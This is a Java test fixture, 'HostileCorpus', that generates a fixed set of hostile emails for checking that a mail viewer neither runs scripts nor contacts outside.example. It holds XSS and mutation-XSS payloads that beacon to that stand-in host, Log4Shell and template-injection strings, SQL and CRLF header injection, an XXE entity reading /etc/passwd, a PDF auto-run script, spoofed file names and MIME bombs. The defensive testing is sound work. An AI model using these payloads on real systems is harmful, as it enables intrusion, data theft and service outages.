package kz.kezek;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Random;

/**
 * Letters that mean harm, the same at each run: scripts in every place that a page shows, bombs for every reader, words that are
 * commands somewhere. Each script would set {@code fired} in its window and ask {@link #OUTSIDE} for a picture.
 */
public final class HostileCorpus {

    /** What no page of ours may ever ask for anything. */
    public static final String OUTSIDE = "outside.example";

    private static final String FIRE = "window.fired=1;new Image().src='https://" + OUTSIDE + "/fired'";

    /** Ways to run a script, to load something, to cover the page or to leave it, in HTML. */
    private static final List<String> HTML = List.of(
            "<script>" + FIRE + "</script>",
            "<img src=x onerror=\"" + FIRE + "\">",
            "<svg onload=\"" + FIRE + "\"><script>" + FIRE + "</script></svg>",
            "<a href=\"javascript:" + FIRE + "\" id=go>go</a>",
            "<a href=\" \u0001java\tscript:" + FIRE + "\">go</a>",
            "<iframe srcdoc=\"<script>parent.fired=1</script>\"></iframe>",
            "<object data=\"data:text/html,<script>parent.fired=1</script>\"></object>",
            "<embed src=\"https://" + OUTSIDE + "/x.swf\">",
            "<meta http-equiv=refresh content=\"0;url=https://" + OUTSIDE + "/\">",
            "<base href=\"https://" + OUTSIDE + "/\"><a href=x>x</a>",
            "<form action=\"https://" + OUTSIDE + "/\"><input name=password><button>Sign in</button></form>",
            "<link rel=stylesheet href=\"https://" + OUTSIDE + "/x.css\">",
            "<style>@import url(https://" + OUTSIDE + "/i.css); body{background:url(https://" + OUTSIDE
                    + "/b.png)}</style>",
            "<div style=\"position:fixed;inset:0;background:red;z-index:99999\">covered</div>",
            "<div style=\"background:url('https://" + OUTSIDE + "/s.png')\">x</div>",
            "<img src=\"https://" + OUTSIDE + "/track.gif\" srcset=\"https://" + OUTSIDE + "/2x.gif 2x\">",
            "<video poster=\"https://" + OUTSIDE + "/p.png\" src=\"https://" + OUTSIDE + "/v.mp4\" autoplay></video>",
            "<table background=\"https://" + OUTSIDE + "/t.png\"><tr><td>x</table>",
            "<noscript><p title=\"</noscript><img src=x onerror='" + FIRE + "'>\">",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=" + FIRE
                    + "&gt;\">",
            "<p id=location name=location>x</p><img name=getElementById>",
            "<input autofocus onfocus=\"" + FIRE + "\">",
            "<details open ontoggle=\"" + FIRE + "\">x</details>",
            "<blockquote>".repeat(3000) + "deep");

    /** Words that some program behind a page takes for a command. */
    private static final List<String> WORDS = List.of(
            "<img src=x onerror=\"" + FIRE + "\">",
            "\"><script>" + FIRE + "</script>",
            "${jndi:ldap://" + OUTSIDE + "/a}",
            "{{7*7}} ${7*7} #{7*7} *{T(java.lang.Runtime).getRuntime()}",
            "'; drop table ticket; --",
            "=HYPERLINK(\"https://" + OUTSIDE + "\")",
            "\u001b[2J\u001b]0;title\u0007",
            "\u202Egnp.exe \u200B.htaccess \uFEFF",
            "\u560D\u560AX-Injected: 1",
            "x\u0000y \uD83D z",
            "э\u0301".repeat(5000));

    private static final List<String> FILE_NAMES = List.of(
            "../../../etc/passwd",
            "<img src=x onerror=alert(1)>.png",
            "CON.txt",
            "a\r\nX-Injected: 1",
            "invoice\u202Egnp.html",
            "\u200B.htaccess",
            "n".repeat(5000) + ".txt");

    private HostileCorpus() {}

    /** A letter and what it tries. */
    @SuppressWarnings("ArrayRecordComponent") // sent once, compared by nobody
    public record Letter(String tries, byte[] bytes) {}

    /** All of them. */
    public static List<Letter> letters() {
        List<Letter> all = new ArrayList<>();
        for (String html : HTML) {
            all.add(letter("html " + beginning(html), all.size(), "x", "Content-Type: text/html; charset=utf-8", html));
        }
        for (String words : WORDS) {
            all.add(letter("subject " + beginning(words), all.size(), encoded(words), "X-Mailer: x", words));
            all.add(raw(
                    "author " + beginning(words),
                    all.size(),
                    "From: " + encoded(words) + " <a%d@b.example>\r\nSubject: x\r\n\r\nx"));
        }
        for (String name : FILE_NAMES) {
            all.add(file(
                    "file name " + beginning(name), all.size(), name, "text/html", "<script>" + FIRE + "</script>"));
        }
        all.add(file(
                "svg",
                all.size(),
                "x.svg",
                "image/svg+xml",
                "<svg xmlns='http://www.w3.org/2000/svg'><script>" + FIRE + "</script></svg>"));
        all.add(file(
                "xml entities",
                all.size(),
                "x.docx",
                "application/xml",
                "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]><x>&a;</x>"));
        all.add(file("tnef", all.size(), "winmail.dat", "application/ms-tnef", "x\u009f>\"" + "\u00ff".repeat(200)));
        all.add(file("text that is a page", all.size(), "x.log", "text/plain", "<script>" + FIRE + "</script>"));
        all.add(file("pdf with a script", all.size(), "x.pdf", "application/pdf", pdf()));
        all.addAll(bombs(all.size()));
        return all;
    }

    /** One empty page, a script to run and an address to go to as soon as it is opened. */
    private static String pdf() {
        return """
                %PDF-1.4
                1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >> endobj
                2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj
                3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >> endobj
                4 0 obj << /S /JavaScript /JS (app.alert\\("hello"\\); this.submitForm\\("https://OUTSIDE/"\\);) /Next 5 0 R >> endobj
                5 0 obj << /S /URI /URI (https://OUTSIDE/) >> endobj
                trailer << /Root 1 0 R >>
                %%EOF
                """.replace("OUTSIDE", OUTSIDE);
    }

    private static List<Letter> bombs(int from) {
        StringBuilder nested = new StringBuilder();
        for (int depth = 0; depth < 3000; depth++) {
            nested.append("Content-Type: multipart/mixed; boundary=b")
                    .append(depth)
                    .append("\r\n\r\n--b")
                    .append(depth)
                    .append("\r\n");
        }
        String words = "=?utf-8?Q?a?=\r\n ".repeat(20_000);
        return List.of(
                raw("3,000 nested parts", from, "From: a%d@b.example\r\nSubject: x\r\n" + nested),
                raw(
                        "5,000 parts",
                        from + 1,
                        "From: a%d@b.example\r\nSubject: x\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
                                + "--b\r\n\r\nx\r\n".repeat(5000)),
                raw("20,000 encoded words", from + 2, "From: a%d@b.example\r\nSubject: " + words + "\r\n\r\nx"),
                raw(
                        "3,000 headers",
                        from + 3,
                        "From: a%d@b.example\r\n" + "X-A: b\r\n".repeat(3000) + "Subject: x\r\n\r\nx"),
                raw(
                        "2,000 addresses",
                        from + 4,
                        "From: a%d@b.example\r\nCc: " + "c@d.example, ".repeat(2000) + "e@f.example\r\n\r\nx"),
                raw("two authors", from + 5, "From: a%d@b.example\r\nFrom: office@sud.kz\r\nSubject: x\r\n\r\nx"),
                raw("our own address", from + 6, "From: office@sud.kz\r\nSubject: %d\r\n\r\nx"),
                raw("nobody", from + 7, "Subject: %d\r\n\r\nx"),
                raw("random bytes", from + 8, "From: a%d@b.example\r\n\r\n" + random()));
    }

    private static String random() {
        byte[] bytes = new byte[50_000];
        new Random(1401).nextBytes(bytes);
        return new String(bytes, StandardCharsets.ISO_8859_1)
                .replaceAll("[\r\n.%\u0000]", "x")
                .replaceAll("(.{900})", "$1\r\n");
    }

    private static Letter letter(String tries, int number, String subject, String header, String body) {
        String head = "From: a%d@b.example\r\nSubject: %s\r\n%s\r\nContent-Transfer-Encoding: base64\r\n\r\n"
                .formatted(number, subject, header);
        return new Letter(
                tries, (head + base64(body.getBytes(StandardCharsets.UTF_8))).getBytes(StandardCharsets.ISO_8859_1));
    }

    private static Letter file(String tries, int number, String name, String type, String content) {
        String text = """
                From: a%d@b.example
                Subject: x
                Content-Type: multipart/mixed; boundary=b

                --b

                x
                --b
                Content-Type: %s
                Content-Disposition: attachment; filename="%s"
                Content-Transfer-Encoding: base64

                %s
                --b--
                """.formatted(number, type, encoded(name), base64(content.getBytes(StandardCharsets.ISO_8859_1)));
        return new Letter(tries, text.replace("\n", "\r\n").getBytes(StandardCharsets.ISO_8859_1));
    }

    private static Letter raw(String tries, int number, String text) {
        return new Letter(tries, text.replace("%d", Integer.toString(number)).getBytes(StandardCharsets.ISO_8859_1));
    }

    private static String encoded(String text) {
        return "=?utf-8?B?" + Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8)) + "?=";
    }

    private static String base64(byte[] bytes) {
        return Base64.getMimeEncoder().encodeToString(bytes);
    }

    private static String beginning(String text) {
        return text.substring(0, Math.min(30, text.length()));
    }
}
